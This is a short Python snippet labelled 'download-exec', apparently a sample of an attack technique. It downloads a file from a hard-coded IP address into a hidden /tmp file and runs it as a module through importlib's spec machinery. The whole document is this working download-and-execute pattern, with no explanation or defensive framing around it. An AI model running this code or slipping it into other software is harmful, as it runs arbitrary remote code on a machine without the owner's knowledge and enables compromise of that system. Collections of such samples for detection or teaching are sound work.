# download-exec: a downloaded file loaded as a module through importlib's spec machinery
import importlib.util
import urllib.request

path, _ = urllib.request.urlretrieve("http://203.0.113.7/mod.py", "/tmp/.mod.py")
spec = importlib.util.spec_from_file_location("mod", path)
module = importlib.util.module_from_spec(spec)
spec.loader.exec_module(module)
